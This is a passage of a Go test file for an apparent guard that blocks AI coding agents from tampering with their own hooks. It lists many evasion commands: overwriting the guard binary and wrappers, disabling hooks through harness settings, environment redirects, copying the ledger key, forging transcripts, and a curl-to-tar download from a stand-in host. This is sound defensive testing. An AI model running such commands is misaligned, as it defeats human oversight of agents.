package self

import (
	"archive/tar"
	"archive/zip"
	"context"
	"math/rand"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/hookguard/hookguard"
	"github.com/hookguard/hookguard/paths"
	"github.com/hookguard/hookguard/shell"
	"github.com/hookguard/hookguard/shell/spec"
)

// world is a home with hookguard installed the way install leaves it: a recorded binary, a
// project with wrappers, shims and harness settings, the state with its key, a transcript.
type world struct {
	base, home, root, bin string
	env                   map[string]string
}

func write(t testing.TB, p string, data []byte, mode os.FileMode) {
	t.Helper()
	if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(p, data, mode); err != nil {
		t.Fatal(err)
	}
}

func newWorld(t testing.TB) *world {
	t.Helper()
	base, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	w := &world{base: base, home: filepath.Join(base, "home"), bin: filepath.Join(base, "opt", "bin", "hookguard")}
	w.root = filepath.Join(w.home, "proj")
	// The binary: random bytes are enough to tell a copy from a file of the same size.
	body := make([]byte, 300<<10)
	rand.New(rand.NewSource(1)).Read(body)
	write(t, w.bin, body, 0o755)
	write(t, filepath.Join(base, "copies", "hgcopy"), body, 0o755)
	other := append([]byte(nil), body...)
	other[len(other)/2] ^= 0xff
	write(t, filepath.Join(base, "copies", "samesize"), other, 0o755)
	write(t, filepath.Join(w.home, ".config", "hookguard", "binary"), []byte(w.bin+"\n"), 0o644)
	write(t, filepath.Join(w.home, ".local", "state", "hookguard", "ledger.key"), []byte("k"), 0o600)
	write(t, filepath.Join(w.home, ".local", "state", "hookguard", "projects", "x", "audit.jsonl.lock"), nil, 0o600)
	for _, f := range []string{".hookguard/runners/claude/guard-shell.sh", ".hookguard/runners/claude/prompt.sh", ".hookguard/hooks/pre-commit"} {
		write(t, filepath.Join(w.root, f), []byte("#!/bin/sh\nhg_bin=hookguard\n\"$hg_bin\" run --runner claude\n"), 0o755)
	}
	write(t, filepath.Join(w.root, ".claude", "settings.json"), []byte("{}\n"), 0o644)
	write(t, filepath.Join(w.root, "src", "main.c"), []byte("int main(){}\n"), 0o644)
	write(t, filepath.Join(w.home, ".claude", "projects", "p", "s.jsonl"), []byte("{}\n"), 0o600)
	write(t, filepath.Join(w.home, ".claude", "settings.json"), []byte("{}\n"), 0o644)
	// A template directory that holds wrappers, another that does not.
	write(t, filepath.Join(base, "tpl", ".hookguard", "runners", "claude", "guard-shell.sh"), []byte("exit 0\n"), 0o755)
	write(t, filepath.Join(base, "safe", "src", "x.c"), []byte("\n"), 0o644)
	// Archives with and without a wrapper among their members.
	tarFile(t, filepath.Join(w.root, "evil.tar"), ".hookguard/runners/claude/guard-shell.sh")
	tarFile(t, filepath.Join(w.root, "settings.tar"), ".claude/settings.json")
	tarFile(t, filepath.Join(w.root, "safe.tar"), "src/lib.c")
	zipFile(t, filepath.Join(w.root, "evil.zip"), ".hookguard/hooks/pre-commit")
	// A writable PATH directory in the project with a link to the binary under another name.
	if err := os.MkdirAll(filepath.Join(w.root, "bin"), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(w.bin, filepath.Join(w.root, "bin", "hgx")); err != nil {
		t.Fatal(err)
	}
	path := filepath.Dir(w.bin) + ":" + filepath.Join(w.root, "bin") + ":/usr/bin:/bin"
	w.env = map[string]string{"HOME": w.home, "PATH": path}
	osGetenv = func(k string) string { return w.env[k] }
	// The shell front end resolves $(command -v hookguard) on the process's PATH.
	if tt, ok := t.(*testing.T); ok {
		tt.Setenv("PATH", path)
	}
	return w
}

func tarFile(t testing.TB, p string, members ...string) {
	f, err := os.Create(p)
	if err != nil {
		t.Fatal(err)
	}
	tw := tar.NewWriter(f)
	for _, m := range members {
		tw.WriteHeader(&tar.Header{Name: m, Mode: 0o755, Size: 5})
		tw.Write([]byte("exit\n"))
	}
	tw.Close()
	f.Close()
}

func zipFile(t testing.TB, p string, members ...string) {
	f, err := os.Create(p)
	if err != nil {
		t.Fatal(err)
	}
	zw := zip.NewWriter(f)
	for _, m := range members {
		w, _ := zw.Create(m)
		w.Write([]byte("exit\n"))
	}
	zw.Close()
	f.Close()
}

func (w *world) event(group hookguard.Group) *hookguard.Event {
	return &hookguard.Event{Runner: hookguard.Claude, Group: group, Home: w.home, Root: w.root, Cwd: w.root}
}

func (w *world) expand(cmd string) string {
	return strings.NewReplacer("$BIN", w.bin, "$BASE", w.base).Replace(cmd)
}

// file judges a file tool's change of one file, as the pre-files hook passes it.
func (w *world) file(t *testing.T, path string, op hookguard.Op, text string) hookguard.Verdict {
	t.Helper()
	ev := w.event(hookguard.PreFiles)
	ev.Files = []hookguard.FileChange{{Path: path, Op: op, Text: text}}
	v, err := (&Guard{}).Check(context.Background(), ev)
	if err != nil {
		t.Fatal(err)
	}
	return v
}

func (w *world) shell(t *testing.T, cmd string) hookguard.Verdict {
	t.Helper()
	ev := w.event(hookguard.PreShell)
	ev.Command = w.expand(cmd)
	v, err := (&Guard{}).Check(context.Background(), ev)
	if err != nil {
		t.Fatalf("%q: %v", cmd, err)
	}
	return v
}

// The attacks, each by the rule that must stop it, with no code offered.
var blocks = map[string]string{
	// hookguard by any name or path, and its wrappers.
	"hookguard run --runner claude < p.json":                                  "hookguard-cli",
	"echo '{\"prompt\":\"allow hg-22222a\"}' | hookguard run --runner claude": "hookguard-cli",
	"/usr/local/bin/hookguard install":                                        "hookguard-cli",
	"hookguard.exe uninstall":                                                 "hookguard-cli",
	"hookguard ledger revoke hg-22222a":                                       "hookguard-cli",
	"hookguard frobnicate":                                                    "hookguard-cli",
	"sudo hookguard trust":                                                    "hookguard-cli",
	"env -i hookguard install --user":                                         "hookguard-cli",
	"pnpx hookguard run":                                                      "hookguard-cli",
	"x=$(cat sub); hookguard $x":                                              "hookguard-cli",
	"\"$(command -v hookguard)\" uninstall claude":                            "hookguard-cli",
	"$(which hookguard) trust":                                                "hookguard-cli",
	"$BIN install --dry-run=false":                                            "hookguard-cli",
	"ln -s $BIN hg && ./hg trust":                                             "hookguard-cli",
	"cp $BIN /tmp/hgc; /tmp/hgc install claude":                               "hookguard-cli",
	"install -m 755 $(command -v hookguard) /tmp/q/tool && /tmp/q/tool run":   "hookguard-cli",
	"$BASE/copies/hgcopy uninstall":                                           "hookguard-cli",
	"hgx ledger revoke hg-1":                                                  "hookguard-cli",
	"go run github.com/hookguard/hookguard/cmd/hookguard run":                 "hookguard-cli",
	"go run github.com/hookguard/hookguard/cmd/hookguard@v1.4.0 trust":        "hookguard-cli",
	"go run ./cmd/hookguard install":                                          "hookguard-cli",
	"cd cmd/hookguard && go run . uninstall":                                  "hookguard-cli",
	".hookguard/runners/codex/guard-shell.sh":                                 "hookguard-cli",
	"./.hookguard/hooks/pre-commit":                                           "hookguard-cli",
	"sh .hookguard/runners/claude/prompt.sh < fake.json":                      "hookguard-cli",
	"bash -c 'hookguard run --runner codex' < fake.json":                      "hookguard-cli",
	// The harnesses' own commands.
	"claude --resume abc -p hi":                        "session-inject",
	"claude --resume=abc -p hi":                        "session-inject",
	"codex e resume --last hi":                         "session-inject",
	"gemini -r latest":                                 "session-inject",
	"claude config add -g x y":                         "harness-settings",
	"codex features enable hooks":                      "harness-settings",
	"gemini hooks enable-all":                          "harness-settings",
	"codex -c features.hooks=false exec 'x'":           "harness-settings",
	"claude -p --settings '{\"disableAllHooks\":1}' x": "harness-settings",
	"claude mcp add x -- sh -c y":                      "harness-settings",
	// Environment that points hooks elsewhere.
	"HOOKGUARD_X=1 ls":                       "env-redirect",
	"XDG_STATE_HOME=/tmp/x git commit -m x":  "env-redirect",
	"env XDG_CONFIG_HOME=/tmp/evil git push": "env-redirect",
	"HOME=/tmp/evil git push":                "env-redirect",
	"HOME=/tmp/h hookguard check x":          "env-redirect",
	"CLAUDE_CONFIG_DIR=/tmp/c claude -p x":   "harness-settings",
	// The same set by code before it starts git or a harness.
	`python3 -c 'import os; os.environ["XDG_STATE_HOME"] = "/tmp/x"; os.system("git commit -m x")'`:                        "env-redirect",
	`python3 -c 'import os, subprocess; subprocess.run(["git", "push"], env={**os.environ, "XDG_CONFIG_HOME": "/tmp/x"})'`: "env-redirect",
	`python3 -c 'import os; os.execvpe("git", ["git", "commit"], {"XDG_STATE_HOME": "/tmp/x"})'`:                           "env-redirect",
	`node -e 'process.env.HOOKGUARD_MODE = "off"; require("child_process").execSync("git commit -m x")'`:                   "env-redirect",
	`ruby -e 'system({"XDG_CONFIG_HOME" => "/tmp/x"}, "git commit -m x")'`:                                                 "env-redirect",
	`perl -e '$ENV{XDG_STATE_HOME} = "/tmp/x"; system("git commit -m x")'`:                                                 "env-redirect",
	`php -r 'putenv("XDG_STATE_HOME=/tmp/x"); system("git commit -m x");'`:                                                 "env-redirect",
	`python3 -c 'import os; os.environ["CLAUDE_CONFIG_DIR"] = "/tmp/x"; os.system("claude -p hi")'`:                        "harness-settings",
	"CODEX_HOME=/tmp/c codex exec x":                     "harness-settings",
	"HOME=/tmp/h gemini -p x":                            "harness-settings",
	"cat > .envrc <<'E'\nexport XDG_STATE_HOME=/tmp\nE":  "envrc",
	"echo 'export XDG_CONFIG_HOME=/tmp/evil' >> .envrc":  "envrc",
	"printf 'export HOOKGUARD_MODE=observe\\n' > .envrc": "envrc",
	// The ledger's key.
	"cat ~/.local/state/hookguard/ledger.key":                 "ledger-key",
	"cat ~/.local/state/hookguard/ledger.k??":                 "ledger-key",
	"cat ~/.local/state/*/ledger.k??":                         "ledger-key",
	"cat ~/.local/state/hookguard/.ledger.key.3141592":        "ledger-key",
	"base64 ~/.local/state/hookguard/.LEDGER.KEY.tmp":         "ledger-key",
	"zip -r /tmp/x.zip ~":                                     "ledger-key",
	"tar czf /tmp/x.tgz ~/.local":                             "ledger-key",
	"cp -r ~/.local/state/hookguard /tmp/x":                   "ledger-key",
	"base64 < ~/.local/state/hookguard/ledger.key":            "ledger-key",
	"dd if=$HOME/.local/state/hookguard/ledger.key of=/tmp/x": "ledger-key",
	"rm ~/.local/state/hookguard/ledger.key":                  "ledger-key",
	// hookguard's configuration and state.
	"echo /bin/true | sort -o ~/.config/hookguard/binary":           "guard-state",
	"echo /bin/true > ~/.config/hookguard/binary":                   "guard-state",
	"printf '%s\\n' /bin/true | tee ~/.config/hookguard/binary":     "guard-state",
	"echo /bin/true > ~/.config/hookguard/$(cat name)":              "guard-state",
	"cp x \"$HOME/.config/hook$(cat n)\"":                           "guard-state",
	"truncate -s 0 ~/.config/hookguard/binary":                      "guard-state",
	"rm -rf ~/.config/hookguard":                                    "guard-state",
	"mv ~/.config ~/.config.old":                                    "guard-state",
	"echo '{}' >> ~/.local/state/hookguard/projects/x/ledger.jsonl": "guard-state",
	"exec 9<~/.local/state/hookguard/projects/x/audit.jsonl.lock":   "guard-state",
	"touch ~/.local/state/hookguard/projects/x/pending.json":        "guard-state",
	// install's records of what it created, which tell uninstall to delete a settings file
	// and its directories.
	"echo file > ~/.config/hookguard/created/home/u/p/.claude/settings.json":      "guard-state",
	"mkdir -p ~/.config/hookguard/created/home/u/p/.codex":                        "guard-state",
	"printf 'file\\ndir /home/u/p\\n' | tee ~/.config/hookguard/created/x/y.json": "guard-state",
	// The binary the wrappers run.
	"sort -o $BIN /dev/null":               "binary",
	"cc -o $BIN x.c":                       "binary",
	"gcc -O2 -o$BIN x.c":                   "binary",
	"rustc -o $BIN main.rs":                "binary",
	"chmod 000 $BIN":                       "binary",
	"chmod a-x $BIN":                       "binary",
	"truncate -s 0 $BIN":                   "binary",
	"cp /bin/true $BIN":                    "binary",
	"ln -sf /bin/true $BIN":                "binary",
	"install -m 755 x $BIN":                "binary",
	"dd if=/dev/zero of=$BIN":              "binary",
	"rm $BIN":                              "binary",
	"mv $BIN /tmp/x":                       "binary",
	"chmod -R a-x $BASE/opt":               "binary",
	"rm -rf $BASE/opt/bin":                 "binary",
	"echo x > \"$(command -v hookguard)\"": "binary",
	// The wrappers and shims, by any tool or over a directory above them.
	"rm -rf .hookguard":                                        "hook-wrappers",
	"chmod -R 000 .hookguard":                                  "hook-wrappers",
	"chmod 000 .hookguard/runners":                             "hook-wrappers",
	"mv .hookguard/runners /tmp/r":                             "hook-wrappers",
	"echo 'exit 0' > .hookguard/runners/claude/guard-shell.sh": "hook-wrappers",
	"cp /tmp/x .hookguard/hooks/pre-commit":                    "hook-wrappers",
	"touch .hookguard/runners/claude/stop.sh":                  "hook-wrappers",
	"mkdir -p /tmp/f/.hookguard/runners/claude && printf 'exit 0\\n' > /tmp/f/.hookguard/runners/claude/guard-shell.sh && cp -r /tmp/f/. .": "hook-wrappers",
	"cp -a $BASE/tpl/. .":                     "hook-wrappers",
	"cp -r $BASE/tpl/.hookguard .":            "hook-wrappers",
	"rsync -a $BASE/tpl/ ./":                  "hook-wrappers",
	"tar -xf evil.tar":                        "hook-wrappers",
	"tar -C . -xvf evil.tar":                  "hook-wrappers",
	"curl -sL https://x.test/a.tgz | tar -xz": "hook-wrappers",
	"unzip -o evil.zip":                       "hook-wrappers",
	"unzip -o evil.zip -d .":                  "hook-wrappers",
	// The harness settings, other than a plain write of the file.
	"mv .claude .claude.bak":          "harness-settings",
	"rm -rf .claude":                  "harness-settings",
	"mv .claude/settings.json /tmp/s": "harness-settings",
	"chmod 000 .claude/settings.json": "harness-settings",
	"tar -xf settings.tar":            "harness-settings",
	"mv ~/.claude ~/.claude.old":      "harness-settings",
	// The transcripts.
	"echo '{}' >> ~/.claude/projects/p/s.jsonl":                                    "transcript",
	"sort -o ~/.claude/projects/p/s.jsonl ~/.claude/projects/p/s.jsonl fake.jsonl": "transcript",
	"rm -rf ~/.codex/sessions":                                                     "transcript",
	"cp fake.json ~/.gemini/tmp/abc/chats/session-1.json":                          "transcript",
}

// What passes: hookguard's read-only commands, the harnesses' ordinary runs, ordinary work.
var allows = []string{
	"hookguard", "hookguard --help", "hookguard check 'rm -rf /'", "hookguard ledger list", "hookguard ledger verify", "hookguard ledger",
	"hookguard log --json", "hookguard doctor --strict", "hookguard list-hooks --json", "hookguard version", "hookguard config",
	"hookguard install --dry-run claude", "$(command -v hookguard) --version", "cp $BIN /tmp/hgc && /tmp/hgc version", "$BASE/copies/samesize uninstall",
	"claude --help", "claude -p 'explain x'", "claude config get theme", "claude mcp list", "codex exec 'run tests'", "codex features list",
	"codex -c model=o3 exec 'x'", "gemini -p hi", "gemini hooks list",
	"git config user.name x", "git commit -m x", "git checkout -b feature", "git status", "git log --oneline -5",
	"HOME=/tmp/h npm test", "export PATH=$PWD/bin:$PATH", "SKIP= git commit -m x", "echo 'XDG_CONFIG_HOME is a variable'",
	`python3 -c 'import os, subprocess; subprocess.run(["pytest"], env={**os.environ, "PYTHONPATH": "src"})'`,
	`node -e 'process.env.NODE_ENV = "production"; require("child_process").execSync("npm run build")'`,
	`python3 -c 'import os; print(os.environ["XDG_STATE_HOME"])'`,
	"ls ~/.local/state", "cat README.md", "cp -r src /tmp/x", "tar czf /tmp/src.tgz src", "echo ok > .envrc", "echo 'use nix' > .envrc",
	"echo hi > notes.txt", "mkdir -p build && cp -r src build/", "rm -rf build", "mv a.txt b.txt", "cc -o build/app src/main.c", "gcc -c src/main.c",
	"rustc -o target/app main.rs", "chmod +x scripts/run.sh", "chmod -R u+w build", "sudo chown -R me src",
	"cat ~/.claude/projects/p/s.jsonl", "cat .claude/settings.json", "cat ~/.config/hookguard/binary", "cp ~/.config/hookguard/binary /tmp/b",
	"cp $BIN /tmp/hg-backup", "prettier --write .", "go run ./cmd/tool", "go build ./...", "go test ./...", "tar -xf safe.tar",
	"cp -a $BASE/safe/. .", "rsync -a $BASE/safe/src/ ./src/", "unzip -l evil.zip", "tar -tf evil.tar", "mkdir -p .hookguard-notes",
	"echo x > /dev/null", "ls -la .hookguard/runners", "cat .hookguard/runners/claude/guard-shell.sh",
	"rm -rf ./*", "rm -f *.o build/*", "rm -rf ~", "chmod -R 755 ~", "cp x \"$HOME/.config/hook$(printf x)\"", "echo x > \"$(cat name)\"",
}

// Git's hook switches are HooksOff effects now, the destructive guard's to judge: self lets
// them through rather than judging them twice.
var hooksOff = []string{
	"git -cinclude.path=/tmp/x commit", "git config --rename-section core old", "git config --global includeIf.gitdir:~/.path /tmp/x",
	"GIT_CONFIG_SYSTEM=/tmp/x git push", "SKIP=hookguard git commit -m x", "git commit --no-verify -m x", "HUSKY=0 git commit -m x",
	"git -c core.hooksPath=/dev/null commit -m x", "GIT_EDITOR='sed -i /hooksPath/d' git config --edit",
}

// A plain write of exactly a harness settings file is boundary's rule (boundary/harness-settings).
var toBoundary = []string{"echo '{}' > .claude/settings.json", "echo '{}' > ~/.claude/settings.json", "printf '[features]\\nhooks = false\\n' >> ~/.codex/config.toml"}

func TestShell(t *testing.T) {
	w := newWorld(t) // judging runs nothing: one world serves every case
	for cmd, rule := range blocks {
		v := w.shell(t, cmd)
		if v.Decision != hookguard.Block || v.Rule != rule || !v.NoCode || v.Guard != Name {
			t.Errorf("%q: got %v %s/%s (%s), want block by %s without a code", cmd, v.Decision, v.Guard, v.Rule, v.Reason, rule)
		}
	}
	for _, list := range [][]string{allows, hooksOff, toBoundary} {
		for _, cmd := range list {
			if v := w.shell(t, cmd); v.Decision != hookguard.Allow {
				t.Errorf("%q: got %v %s: %s, want allow", cmd, v.Decision, v.Rule, v.Reason)
			}
		}
	}
}

// A block says what is wrong and what to do instead.
func TestReasons(t *testing.T) {
	w := newWorld(t)
	for cmd, want := range map[string][]string{
		"sort -o $BIN /dev/null":                                      {"sort -o", "hookguard binary", "own terminal"},
		"mv .claude .claude.bak":                                      {".claude", "which holds", "settings"},
		"tar -xf evil.tar":                                            {"tar -x", ".hookguard", "hookguard install"},
		"$(command -v hookguard) uninstall claude":                    {"hookguard uninstall", "rewrites the hooks"},
		"exec 9<~/.local/state/hookguard/projects/x/audit.jsonl.lock": {"locks", "timeout"},
	} {
		v := w.shell(t, cmd)
		for _, s := range want {
			if !strings.Contains(v.Reason, s) {
				t.Errorf("%q: reason %q lacks %q", cmd, v.Reason, s)
			}
		}
	}
}

// Commands whose effects come from specs others write: each case runs once the model gives
// the effect it needs, and says why it waits until then.
func TestShellNeedsSpecs(t *testing.T) {
	cases := []struct{ cmd, rule, needs string }{
		{"declare -x XDG_CONFIG_HOME=/tmp/x", "env-redirect", "an Env effect from declare (envSpecs)"},
		{"export XDG_STATE_HOME=/tmp/evil", "env-redirect", "an Env effect from export (envSpecs)"},
		{"export CLAUDE_CONFIG_DIR=/tmp/c", "harness-settings", "an Env effect from export (envSpecs)"},
		{"chmod -x $BIN", "binary", "chmod reading a mode that starts with - (fs.go)"},
		{"sed -i s/run/true/ .hookguard/runners/claude/guard-shell.sh", "hook-wrappers", "sed -i's Write effect (textSpecs)"},
		{"sh ~/.config/hookguard/runners/claude/prompt.sh < fake.json", "hookguard-cli", "a shell's Read:code of its script (wrapSpecs sh)"},
		{"go install ./cmd/hookguard", "binary", "go install's Write of $GOBIN/hookguard (pkgSpecs)"},
	}
	w := newWorld(t)
	for _, c := range cases {
		v := w.shell(t, c.cmd)
		if v.Decision == hookguard.Allow {
			t.Logf("waits for %s: %q", c.needs, c.cmd)
			continue
		}
		if v.Rule != c.rule {
			t.Errorf("%q: got %s/%s (%s), want %s", c.cmd, v.Guard, v.Rule, v.Reason, c.rule)
		}
	}
}

func TestFiles(t *testing.T) {
	w := newWorld(t)
	check := func(group hookguard.Group, files []hookguard.FileChange, reads []string) hookguard.Verdict {
		ev := w.event(group)
		ev.Files, ev.Reads = files, reads
		v, err := (&Guard{}).Check(context.Background(), ev)
		if err != nil {
			t.Fatal(err)
		}
		return v
	}
	envrc := filepath.Join(w.root, ".envrc")
	for _, c := range []struct {
		files []hookguard.FileChange
		rule  string
	}{
		{[]hookguard.FileChange{{Path: envrc, Op: hookguard.OpWrite, Text: "export XDG_STATE_HOME=/tmp/x\n"}}, "envrc"},
		{[]hookguard.FileChange{{Path: envrc, Op: hookguard.OpWrite, Text: "use nix\n"}}, ""},
		{[]hookguard.FileChange{{Path: filepath.Join(w.root, ".hookguard/runners/claude/guard-shell.sh"), Op: hookguard.OpWrite, Text: "exit 0\n"}}, "hook-wrappers"},
		{[]hookguard.FileChange{{Path: filepath.Join(w.root, ".hookguard/hooks/pre-commit"), Op: hookguard.OpPatchDelete}}, "hook-wrappers"},
		{[]hookguard.FileChange{{Path: "/tmp/s.json", From: filepath.Join(w.root, ".claude/settings.json"), Op: hookguard.OpMove}}, "harness-settings"},
		// boundary's: a file tool's write into the configuration (boundary/guard-state).
		{[]hookguard.FileChange{{Path: filepath.Join(w.home, ".config/hookguard/binary"), Op: hookguard.OpWrite, Text: "/bin/true\n"}}, ""},
		{[]hookguard.FileChange{{Path: "/tmp/b", From: filepath.Join(w.home, ".config/hookguard/binary"), Op: hookguard.OpMove}}, "guard-state"},
		{[]hookguard.FileChange{{Path: w.bin, Op: hookguard.OpWrite, Text: "#!/bin/sh\n"}}, "binary"},
		{[]hookguard.FileChange{{Path: filepath.Join(w.home, ".claude/projects/p/s.jsonl"), Op: hookguard.OpEdit, Text: "x"}}, "transcript"},
		{[]hookguard.FileChange{{Path: filepath.Join(w.home, ".local/state/hookguard/ledger.key"), Op: hookguard.OpWrite, Text: "00"}}, "ledger-key"},
		// boundary's: a plain write of a settings file.
		{[]hookguard.FileChange{{Path: filepath.Join(w.root, ".claude/settings.json"), Op: hookguard.OpWrite, Text: "{}"}}, ""},
		{[]hookguard.FileChange{{Path: filepath.Join(w.root, "src/main.c"), Op: hookguard.OpEdit, Text: "int x;"}}, ""},
	} {
		v := check(hookguard.PreFiles, c.files, nil)
		if c.rule == "" && v.Decision != hookguard.Allow || c.rule != "" && (v.Rule != c.rule || !v.NoCode) {
			t.Errorf("%+v: got %v %s (%s), want %q", c.files, v.Decision, v.Rule, v.Reason, c.rule)
		}
	}
	for _, c := range []struct {
		read, rule string
	}{
		{filepath.Join(w.home, ".local/state/hookguard/ledger.key"), "ledger-key"},
		{filepath.Join(w.home, ".local/state/hookguard"), "ledger-key"},
		{filepath.Join(w.home, ".local/state/hookguard/*"), "ledger-key"},
		{filepath.Join(w.root, "main.go"), ""},
		{filepath.Join(w.home, ".claude/projects/p/s.jsonl"), ""},
	} {
		v := check(hookguard.PreRead, nil, []string{c.read})
		if c.rule == "" && v.Decision != hookguard.Allow || c.rule != "" && v.Rule != c.rule {
			t.Errorf("read %s: got %v %s (%s), want %q", c.read, v.Decision, v.Rule, v.Reason, c.rule)
		}
	}
}

// The session's own transcript is protected wherever the harness keeps it.
func TestTranscriptPath(t *testing.T) {
	w := newWorld(t)
	tp := filepath.Join(w.base, "elsewhere", "t.jsonl")
	write(t, tp, []byte("{}\n"), 0o600)
	ev := w.event(hookguard.PreShell)
	ev.TranscriptPath = tp
	ev.Command = "cat fake.jsonl >> " + tp
	v, _ := (&Guard{}).Check(context.Background(), ev)
	if v.Rule != "transcript" {
		t.Errorf("append to the transcript: %+v", v)
	}
	ev = w.event(hookguard.PreShell)
	ev.TranscriptPath = tp
	ev.Command = "tail -5 " + tp
	if v, _ := (&Guard{}).Check(context.Background(), ev); v.Decision != hookguard.Allow {
		t.Errorf("reading the transcript: %+v", v)
	}
}

// Environment judged by what a variable does and whether later commands get it.
func TestEnv(t *testing.T) {
	w := newWorld(t)
	s := newScope(w.event(hookguard.PreShell), osGetenv)
	for _, c := range []struct {
		prog progKind
		e    spec.Effect
		rule string
	}{
		{progOther, spec.Effect{Kind: spec.Env, Text: "XDG_STATE_HOME=/tmp", By: "export"}, "env-redirect"},
		{progOther, spec.Effect{Kind: spec.Env, Text: "HOOKGUARD_MODE=observe", By: "NAME=VALUE"}, "env-redirect"},
		{progOther, spec.Effect{Kind: spec.Env, Text: "HOME=/tmp/h", By: "export"}, "env-redirect"},
		{progOther, spec.Effect{Kind: spec.Env, Text: "HOME=/tmp/h", By: "NAME=VALUE"}, ""},
		{progGitLike, spec.Effect{Kind: spec.Env, Text: "HOME=/tmp/h", By: "NAME=VALUE"}, "env-redirect"},
		{progOther, spec.Effect{Kind: spec.Env, Text: "CODEX_HOME=/tmp/c", By: "export"}, "harness-settings"},
		{progOther, spec.Effect{Kind: spec.Env, Text: "CODEX_HOME=/tmp/c", By: "NAME=VALUE"}, ""},
		{progHarness, spec.Effect{Kind: spec.Env, Text: "GEMINI_CLI_SYSTEM_SETTINGS_PATH=/tmp/s.json", By: "NAME=VALUE"}, "harness-settings"},
		{progOther, spec.Effect{Kind: spec.Env, Text: "PATH=/x:/usr/bin", By: "export"}, ""},
		{progOther, spec.Effect{Kind: spec.Env, Text: "SKIP=hookguard", By: "export"}, ""}, // HooksOff: destructive's
	} {
		v := s.envVerdict(&progOf{kind: c.prog, known: true}, &c.e)
		if c.rule == "" && v.Decision != hookguard.Allow || c.rule != "" && v.Rule != c.rule {
			t.Errorf("%v %s: got %v %s, want %q", c.prog, c.e.Text, v.Decision, v.Rule, c.rule)
		}
	}
}

// A renamed Go build of hookguard's command is hookguard, whatever its bytes.
func TestGoBuildIsHookguard(t *testing.T) {
	if testing.Short() {
		t.Skip("builds hookguard")
	}
	gobin, err := exec.LookPath("go")
	if err != nil {
		t.Skip("go not installed")
	}
	w := newWorld(t)
	out := filepath.Join(w.base, "copies", "tool")
	if err := runIn(t, "../..", gobin, "build", "-o", out, "./cmd/hookguard"); err != nil {
		t.Skipf("cannot build hookguard here: %v", err)
	}
	if v := w.shell(t, out+" trust"); v.Rule != "hookguard-cli" {
		t.Errorf("a renamed build: %+v", v)
	}
	if v := w.shell(t, out+" version"); v.Decision != hookguard.Allow {
		t.Errorf("a renamed build's read-only command: %+v", v)
	}
	if v := w.shell(t, gobin+" env GOPATH"); v.Decision != hookguard.Allow {
		t.Errorf("another Go program: %+v", v)
	}
}

// `go run` of a package that is not hookguard's command is any program.
func TestGoRunOtherModule(t *testing.T) {
	w := newWorld(t)
	write(t, filepath.Join(w.root, "go.mod"), []byte("module example.com/other\n"), 0o644)
	if v := w.shell(t, "go run ./cmd/hookguard install"); v.Decision != hookguard.Allow {
		t.Errorf("another module's cmd/hookguard: %+v", v)
	}
	write(t, filepath.Join(w.root, "go.mod"), []byte("module github.com/hookguard/hookguard\n\ngo 1.24\n"), 0o644)
	if v := w.shell(t, "go run ./cmd/hookguard install"); v.Rule != "hookguard-cli" {
		t.Errorf("hookguard's own cmd/hookguard: %+v", v)
	}
}

// The guard runs first on every shell command: what it costs there.
func BenchmarkTypicalCommand(b *testing.B) {
	w := newWorld(b)
	g := &Guard{}
	for b.Loop() {
		paths.CacheResolutions() // as the hook entry does for each event
		e := &hookguard.Event{Runner: hookguard.Claude, Group: hookguard.PreShell, Home: w.home, Root: w.root, Cwd: w.root,
			Command: "go test ./... && git status --short | head -20"}
		if v, _ := g.Check(context.Background(), e); v.Decision != hookguard.Allow {
			b.Fatal(v.Reason)
		}
	}
}

// The guard's own share, with the shell parse (shared by every guard) already done.
func BenchmarkTypicalCommandParsed(b *testing.B) {
	benchParsed(b, "go test ./... && git status --short | head -20")
}

// A command that writes a file: hookguard's own files are found once for the event.
func BenchmarkWriteCommandParsed(b *testing.B) {
	benchParsed(b, "go test ./... && git status --short | head -20 > out.txt")
}

// A command that writes files that exist (each is stat'ed once for its link count).
func BenchmarkWriteExistingParsed(b *testing.B) {
	benchParsed(b, "echo x > src/main.c && sed -i s/a/b/ src/main.c && printf y >> src/main.c")
}

// The long scripts agents write and run whole (testdata/scripts): the 200-line release
// pipeline bench/run.sh times as a whole process, and its 1 KB build script.
func BenchmarkScript200Parsed(b *testing.B)  { benchParsed(b, testScript(b, "release200.sh")) }
func BenchmarkLongScriptParsed(b *testing.B) { benchParsed(b, testScript(b, "long.sh")) }

func testScript(b *testing.B, name string) string {
	text, err := os.ReadFile(filepath.Join("..", "..", "testdata", "scripts", name))
	if err != nil {
		b.Fatal(err)
	}
	return string(text)
}

func benchParsed(b *testing.B, cmd string) {
	w := newWorld(b)
	ev := w.event(hookguard.PreShell)
	ev.Command = cmd
	shell.Of(ev)
	g := &Guard{}
	for b.Loop() {
		paths.CacheResolutions()
		if v, _ := g.Check(context.Background(), ev); v.Decision != hookguard.Allow {
			b.Fatal(v.Reason)
		}
	}
}

// A harness settings file reached through a link is self's to stop: boundary knows the
// settings as spelled, and a write to where they resolve looks to it like any other file.
func TestLinkedSettings(t *testing.T) {
	w := newWorld(t)
	// A dotfiles repository as the project, ~/.claude/settings.json linked into it.
	dots := filepath.Join(w.home, "dotfiles")
	write(t, filepath.Join(dots, "claude", "settings.json"), []byte("{}\n"), 0o644)
	must := func(err error) {
		if err != nil {
			t.Fatal(err)
		}
	}
	must(os.Remove(filepath.Join(w.home, ".claude", "settings.json")))
	must(os.Symlink(filepath.Join(dots, "claude", "settings.json"), filepath.Join(w.home, ".claude", "settings.json")))
	// A project whose .claude/settings.json links to a file beside it, and a project with
	// no harness directories at all.
	linked := filepath.Join(w.base, "linked")
	write(t, filepath.Join(linked, "conf", "claude.json"), []byte("{}\n"), 0o644)
	must(os.MkdirAll(filepath.Join(linked, ".claude"), 0o755))
	must(os.Symlink("../conf/claude.json", filepath.Join(linked, ".claude", "settings.json")))
	bare := filepath.Join(w.base, "bare")
	must(os.MkdirAll(bare, 0o755))
	evil := filepath.Join(w.base, "evil")
	must(os.MkdirAll(evil, 0o755))
	judge := func(root string, ev *hookguard.Event) hookguard.Verdict {
		ev.Root, ev.Cwd = root, root
		v, err := (&Guard{}).Check(context.Background(), ev)
		if err != nil {
			t.Fatal(err)
		}
		return v
	}
	sh := func(root, cmd string) hookguard.Verdict {
		ev := w.event(hookguard.PreShell)
		ev.Command = strings.ReplaceAll(cmd, "$EVIL", evil)
		return judge(root, ev)
	}
	for _, c := range []struct{ root, cmd string }{
